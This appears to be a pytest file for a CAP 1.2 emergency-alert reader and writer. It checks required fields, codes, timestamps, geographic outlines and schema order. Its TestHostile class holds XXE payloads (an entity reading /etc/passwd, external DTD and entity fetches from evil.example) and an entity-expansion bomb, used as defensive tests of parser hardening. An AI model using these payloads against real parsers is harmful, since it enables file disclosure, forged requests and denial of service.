"""CAP 1.2 files: a sound one is read whole; each rule of the standard has a file that breaks it."""

import re
import time
from dataclasses import replace
from datetime import UTC, datetime, timedelta, timezone
from functools import cache
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as some
from lxml import etree

from commonweal.adapters.cap import lexical
from commonweal.adapters.cap.checking import CODES, faults
from commonweal.adapters.cap.opening import NAMESPACE
from commonweal.adapters.cap.reader import Area, Info, Message, Reference, Unread, read, wording
from commonweal.adapters.cap.rows import Circle
from commonweal.adapters.cap.writer import write
from commonweal.kernel import clock
from commonweal.kernel.errors import Invalid

from ..shared_data import real_files
from .sample import XML, changed

AT = datetime(2026, 5, 24, 16, 49, tzinfo=timezone(timedelta(hours=-7)))


@cache
def schema() -> Any:
    """The published schema; skipped where it is absent."""
    return etree.XMLSchema(etree.parse(str(real_files("cap/CAP-v1.2.xsd")[0])))


def is_valid(raw: bytes) -> bool:
    """Whether the published schema takes it."""
    return bool(schema().validate(etree.fromstring(raw)))


def refused(raw: bytes) -> list[tuple[str, str]]:
    """Fields and reasons of a file that cannot be read."""
    with pytest.raises(Unread) as said:
        read(raw)
    assert all(one.remedy for one in said.value.faults)
    return [(one.field, one.reason) for one in said.value.faults]


def test_a_whole_message_is_read_with_everything_in_it() -> None:
    message, remarks = read(XML.encode())
    assert (message.identifier, message.sender, message.sent, message.kind) == (
        "harlow-42", "weather.example", AT, "Update",
    )  # fmt: skip
    assert message.references == (Reference("weather.example", "harlow-41", AT - timedelta(minutes=109)),)
    english, spanish = message.infos
    assert english.categories == ("Met", "Safety") and english.codes == (("SAME", "FLW"),)
    assert english.instruction == "Leave the quay & go uphill." and spanish.event == "Inundación"
    [area] = english.areas
    assert area.polygons[0][0] == area.polygons[0][-1] == (38.5, -121.6)
    assert area.circles == (Circle((38.55, -121.55), 2.5),) and (area.altitude, area.ceiling) == (10, 200.5)
    assert english.resources[0].size == 900 and not remarks


def test_what_is_read_is_written_again_the_same() -> None:
    message, _ = read(XML.encode())
    assert read(write(message))[0] == message


def test_the_published_schema_takes_the_sample_and_what_is_written() -> None:
    assert is_valid(XML.encode()) and is_valid(write(read(XML.encode())[0]))


REQUIRED = (
    "identifier",
    "sender",
    "sent",
    "status",
    "msgType",
    "scope",
    "event",
    "urgency",
    "severity",
    "certainty",
)


@pytest.mark.parametrize("name", REQUIRED)
def test_what_the_standard_requires_is_missed_by_name(name: str) -> None:
    raw = re.sub(rf" *<{name}>[^<]*</{name}>\n", "", XML, count=1).encode()
    assert (name, "is missing") in refused(raw)


@pytest.mark.parametrize("name", ["areaDesc", "valueName", "resourceDesc", "mimeType"])
def test_so_it_is_inside_its_parts(name: str) -> None:
    raw = re.sub(rf" *<{name}>[^<]*</{name}>", "", XML, count=1).encode()
    assert (name, "is missing") in refused(raw)


@pytest.mark.parametrize("name", ["category"])
def test_a_language_needs_a_category(name: str) -> None:
    raw = re.sub(rf" *<{name}>[^<]*</{name}>\n", "", XML).encode()
    assert refused(raw).count((name, "is missing")) == 2


@pytest.mark.parametrize(("field", "was"), [
    ("status", "Actual"), ("msgType", "Update"), ("scope", "Public"), ("category", "Met"),
    ("responseType", "Evacuate"), ("urgency", "Immediate"), ("severity", "Severe"), ("certainty", "Observed"),
])  # fmt: skip
@pytest.mark.parametrize("now", ["actual", "Wrong", "Met Safety", "1"])
def test_a_code_that_the_standard_has_not(field: str, was: str, now: str) -> None:
    found = refused(changed(f"<{field}>{was}<", f"<{field}>{now}<"))
    assert (field, "is no code of the standard") in found


@pytest.mark.parametrize(
    ("field", "codes"), [(name, codes) for name, codes in CODES.items() if name != "msgType"]
)
def test_every_code_of_the_standard_is_taken(field: str, codes: tuple[str, ...]) -> None:
    for code in codes:
        raw = re.sub(rf"<{field}>[^<]*<", f"<{field}>{code}<", XML, count=1)
        raw = raw.replace("<code>", "<restriction>here</restriction><addresses>a</addresses><code>", 1)
        read(raw.encode())


@pytest.mark.parametrize("text", [
    "2026-05-24T16:49:00Z", "2026-05-24T16:49:00z", "2026-05-24T16:49:00", "2026-05-24 16:49:00-07:00",
    "2026-05-24T16:49:00.5-07:00", "2026-05-24T16:49-07:00", "2026-05-24T16:49:00-0700", "24/05/2026", "",
    "2026-13-24T16:49:00-07:00", "2026-05-24T25:49:00-07:00", "2026-05-24T16:49:00-99:00",
    "2026-05-24T16:49:00PDT", "tomorrow",
])  # fmt: skip
@pytest.mark.parametrize("field", ["sent", "effective", "onset", "expires"])
def test_a_time_needs_its_offset_in_digits(field: str, text: str) -> None:
    raw = re.sub(rf"<{field}>[^<]*<", f"<{field}>{text}<", XML, count=1).encode()
    [(named, reason)] = refused(raw)
    assert named == field and ("letter" in reason) == text[-1:].isalpha()


def test_utc_is_written_as_the_standard_wants_it() -> None:
    assert lexical.moment_said(datetime(2026, 5, 24, tzinfo=UTC)) == "2026-05-24T00:00:00-00:00"
    assert lexical.moment("2026-05-24T00:00:00-00:00") == datetime(2026, 5, 24, tzinfo=UTC)


@pytest.mark.parametrize("value", ["har low", "har,low", "har&lt;low", "har&amp;low", "", "har\nlow"])
@pytest.mark.parametrize(("field", "was"), [("identifier", "harlow-42"), ("sender", "weather.example")])
def test_an_identifier_without_what_would_break_a_reference(field: str, was: str, value: str) -> None:
    assert refused(changed(f"<{field}>{was}<", f"<{field}>{value}<"))[0][0] == field


@pytest.mark.parametrize(("said", "part"), [
    ("weather.example,harlow-41", "three parts"), ("a,b,c,d", "three parts"), ("a", "three parts"),
    (",harlow-41,2026-05-24T15:00:00-07:00", "three parts"), ("a,b,2026-05-24T15:00:00Z", "letter"),
    ("a,b,2026-05-24T15:00:00-07:00 c,d", "three parts"), ("a,b,2026-05-25T15:00:00-07:00", "later time"),
])  # fmt: skip
def test_a_reference_names_sender_identifier_and_time(said: str, part: str) -> None:
    raw = re.sub(r"<references>[^<]*<", f"<references>{said}<", XML).encode()
    [(field, reason)] = refused(raw)
    assert field == "references" and part in reason


@pytest.mark.parametrize("kind", ["Update", "Cancel", "Ack", "Error"])
def test_what_speaks_of_an_earlier_message_names_it(kind: str) -> None:
    raw = re.sub(r" <references>[^<]*</references>\n", "", XML).replace("Update<", f"{kind}<").encode()
    assert refused(raw) == [("references", f"is missing, and the message is of the kind {kind}")]
    assert not faults(replace(read(XML.encode())[0], kind="Alert", references=()))


@pytest.mark.parametrize(("scope", "field"), [("Restricted", "restriction"), ("Private", "addresses")])
def test_a_narrower_scope_says_for_whom(scope: str, field: str) -> None:
    raw = changed("<scope>Public</scope>", f"<scope>{scope}</scope>")
    assert refused(raw) == [(field, f"is missing, and the scope is {scope}")]
    said = f"<scope>{scope}</scope><{field}>staff</{field}>"
    assert read(changed("<scope>Public</scope>", said))[0].scope == scope


@pytest.mark.parametrize(("text", "reason"), [
    ("38.5,-121.6 38.6,-121.6 38.6,-121.5", "has fewer than four points"),
    ("38.5,-121.6 38.6,-121.6 38.6,-121.5 38.5,-121.5", "is not closed"),
    ("38.5,-121.6 38.6,-121.6 38.6,-121.5 38.50001,-121.6", "is not closed"),
    ("", "has fewer than four points"), ("38.5", "holds what is no latitude,longitude"),
    ("38.5;-121.6 1,1 2,2 3,3", "holds what is no latitude,longitude"),
    ("a,b c,d e,f a,b", "holds what is no latitude,longitude"),
    ("1e1,2 3,4 5,6 1e1,2", "holds what is no latitude,longitude"),
    ("nan,2 3,4 5,6 nan,2", "holds what is no latitude,longitude"),
    ("91,2 3,4 5,6 91,2", "is no place on earth"), ("1,181 3,4 5,6 1,181", "is no place on earth"),
    ("-90.01,2 3,4 5,6 -90.01,2", "is no place on earth"),
])  # fmt: skip
def test_an_outline_is_a_closed_ring_of_places_on_earth(text: str, reason: str) -> None:
    raw = re.sub(r"<polygon>[^<]*<", f"<polygon>{text}<", XML).encode()
    found = refused(raw)
    assert ("polygon", reason) in found and {field for field, _ in found} == {"polygon"}


@pytest.mark.parametrize("text", [
    "38.55,-121.55", "38.55,-121.55 2.5 3", "38.55 -121.55 2.5", "38.55,-121.55 -1", "95,-121.55 2", "x,y 2",
    "38.55,-121.55 30000", "38.55,-121.55 1e3", "38.55,-121.55 inf", "",
])  # fmt: skip
def test_a_circle_is_a_place_on_earth_and_a_radius(text: str) -> None:
    raw = re.sub(r"<circle>[^<]*<", f"<circle>{text}<", XML).encode()
    assert {field for field, _ in refused(raw)} == {"circle"}


def test_a_ceiling_stands_on_an_altitude() -> None:
    assert refused(changed("<altitude>10</altitude>", "")) == [("ceiling", "stands without an altitude")]
    assert refused(changed("<altitude>10<", "<altitude>ten<"))[0] == ("altitude", "is no decimal number")


def test_what_ends_before_it_begins() -> None:
    raw = changed("<expires>2026-05-24T22", "<expires>2026-05-24T12")
    assert refused(raw) == [("expires", "is not after its beginning")]


def test_a_message_without_words_tells_nothing() -> None:
    raw = re.sub(r"<info>.*</info>", "", XML, flags=re.S).encode()
    assert refused(raw) == [("info", "is missing: the message tells nothing")]
    cancel = re.sub(r"<info>.*</info>", "", XML, flags=re.S).replace("Update<", "Cancel<")
    assert not read(cancel.encode())[0].infos, "a cancellation needs none"


@pytest.mark.parametrize(("was", "now", "field", "reason"), [
    ("<status>Actual</status>\n <msgType>Update</msgType>",
     "<msgType>Update</msgType>\n <status>Actual</status>", "status",
     "stands after what it must stand before"),
    ("<source>", "<source>x</source><source>", "source", "stands twice"),
    ("<source>", "<colour>red</colour><source>", "colour", "is no element of this place in CAP 1.2"),
    ("<source>", '<x:source xmlns:x="urn:x">a</x:source><source>', "source",
     "is no element of this place in CAP 1.2"),
    ("<headline>The", "<headline><b>!</b>The", "headline", "holds other elements, not a text"),
    ("<size>900", "<size>many", "size", "is no whole number"),
    ("<language>en-US", "<language>english (us)", "language", "is no language code"),
])  # fmt: skip
def test_elements_stand_in_the_order_of_the_schema(was: str, now: str, field: str, reason: str) -> None:
    raw = changed(was, now)
    assert (field, reason) in refused(raw) and not is_valid(raw)


def test_all_faults_of_a_file_are_told_at_once_with_their_lines() -> None:
    raw = changed("16:49:00-07:00", "16:49:00Z").replace(b"<circle>38.55", b"<circle>north")
    with pytest.raises(Unread) as said:
        read(raw)
    assert [(one.field, one.line) for one in said.value.faults] == [("sent", 5), ("circle", 40)]
    assert said.value.faults[0].value == "2026-05-24T16:49:00Z"


class TestHostile:
    """A file from elsewhere fetches nothing, swells to nothing, and is answered by name."""

    @pytest.mark.parametrize("doctype", [
        '<!DOCTYPE alert SYSTEM "https://evil.example/x.dtd">',
        '<!DOCTYPE alert [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE alert [<!ENTITY % p SYSTEM "http://evil.example/p"> %p;]>',
        '<!DOCTYPE alert [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        "<!DOCTYPE alert []>",
    ])  # fmt: skip
    @pytest.mark.parametrize("inside", ["Desk 2", "&x;", "&b;"])
    def test_no_document_type_is_taken(self, doctype: str, inside: str) -> None:
        text = XML.replace("?>\n", f"?>\n{doctype}\n", 1).replace("Desk 2", inside)
        for raw in (text.encode(), text.replace("UTF-8", "UTF-16").encode("utf-16")):
            found = refused(raw)
            assert found[0][0] == "file" and "root:" not in str(found)

    def test_entities_within_entities_cost_nothing(self) -> None:
        levels = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
        bomb = f'<!DOCTYPE alert [<!ENTITY a0 "ha">{levels}]>'
        started = time.process_time()
        refused(XML.replace("?>\n", f"?>\n{bomb}\n", 1).replace("Desk 2", "&a11;").encode())
        assert time.process_time() - started < 1

    @pytest.mark.parametrize("raw", [
        b"", b" ", b"{}", b"<alert", b"\xff\xfe\x00", b"PK\x03\x04", b"<html></html>", XML[:400].encode(),
        XML.replace("Desk 2", "&nbsp;").encode(), XML.replace("Desk 2", "\x01").encode(),
    ])  # fmt: skip
    def test_what_is_no_message_is_told(self, raw: bytes) -> None:
        assert refused(raw)[0][0] in ("file", "alert")

    @pytest.mark.parametrize("version", ["1.0", "1.1", "1.3"])
    def test_another_version_is_named(self, version: str) -> None:
        raw = XML.replace(NAMESPACE, NAMESPACE[:-3] + version).encode()
        with pytest.raises(Unread) as said:
            read(raw)
        assert said.value.faults[0].value == version

    def test_a_file_of_any_size_is_measured_first(self) -> None:
        assert "bytes" in refused(b" " * ((1 << 20) + 1))[0][1]
        assert refused(b"<a>" * 300_000)[0][0] == "file"

    def test_a_signature_is_not_taken_for_checked(self) -> None:
        signed = XML.replace("</alert>", '<Signature xmlns="http://www.w3.org/2000/09/xmldsig#"/></alert>')
        assert read(signed.encode())[1] == ("Its signature was not checked.",)

    @given(some.binary(max_size=300))
    def test_any_bytes_have_an_answer(self, raw: bytes) -> None:
        assert refused(raw)


class TestDrafts:
    """What a message of another system becomes here: words to approve, of its English and its Spanish."""

    def test_both_languages_and_the_first_area(self) -> None:
        said = wording(read(XML.encode())[0])
        assert (said.event_en, said.event_es) == ("Flood", "Inundación")
        assert (said.area_en, said.area_es, said.km) == ("Harlow quay", "Muelle de Harlow", 2.5)
        assert said.outline[0] == said.outline[-1] and said.category == "Met" and said.response == "Evacuate"

    def test_one_language_leaves_the_other_to_be_written(self) -> None:
        text = re.sub(r"<info>\s*<language>es.*?</info>", "", XML, flags=re.S)
        assert wording(read(text.encode())[0]).headline_es == ""

    def test_a_draft_or_a_system_message_becomes_a_test(self) -> None:
        assert wording(read(changed("<status>Actual", "<status>System"))[0]).status == "Test"

    @pytest.mark.parametrize(("was", "now"), [
        ("<scope>Public</scope>", "<scope>Private</scope><addresses>a</addresses>"), ("Update<", "Cancel<"),
        ("Update<", "Ack<"),
    ])  # fmt: skip
    def test_what_is_not_for_everybody_is_not_taken(self, was: str, now: str) -> None:
        with pytest.raises(Invalid) as said:
            wording(read(changed(was, now))[0])
        assert said.value.field == "scope"

    def test_what_never_ends_is_not_taken(self) -> None:
        text = re.sub(r" *<expires>[^<]*</expires>", "", XML)
        with pytest.raises(Invalid) as said:
            wording(read(text.encode())[0])
        assert said.value.field == "info"


places = some.tuples(
    some.floats(-90, 90).map(lambda x: round(x, 5)), some.floats(-180, 180).map(lambda x: round(x, 5))
)
rings = some.lists(places, min_size=3, max_size=9).map(lambda points: (*points, points[0]))
words = some.text(some.characters(codec="utf-8", exclude_categories=("C",)), min_size=1, max_size=60).map(
    str.strip
)
moments = some.datetimes(datetime(1980, 1, 1), datetime(2090, 1, 1)).map(
    lambda at: at.replace(microsecond=0, tzinfo=timezone(timedelta(minutes=at.minute * 14 - 420)))
)


@given(rings, places, some.floats(0, 20_000).map(lambda x: round(x, 5)), words.filter(bool), moments)
def test_any_sound_message_is_written_read_and_schema_valid(
    ring: Any, place: Any, radius: float, text: str, sent: datetime
) -> None:
    """Numbers, letters of any script and offsets survive; the published schema takes each."""
    area = Area(text, (ring,), (Circle(place, radius),))
    info = Info("es-US", ("Met",), text, "Future", "Minor", "Likely", expires=sent + timedelta(hours=1),
                headline=text, instruction=text, areas=(area,))  # fmt: skip
    message = Message("a-1", "b.example", sent, "Test", "Alert", "Public", infos=(info,))
    raw = write(message)
    assert read(raw)[0] == message and is_valid(raw)


@pytest.mark.parametrize("change", [
    {"identifier": "a b"}, {"kind": "Cancel"}, {"scope": "Private"}, {"status": "Real"},
    {"sent": datetime(2026, 1, 1)},
])  # fmt: skip
def test_nothing_unsound_leaves(change: dict[str, Any]) -> None:
    sound = Message("a-1", "b.example", clock.now(), "Test", "Alert", "Public",
                    infos=(Info("en-US", ("Met",), "Rain", "Past", "Minor", "Likely"),))  # fmt: skip
    assert write(sound)
    with pytest.raises(Unread):
        write(replace(sound, **change))
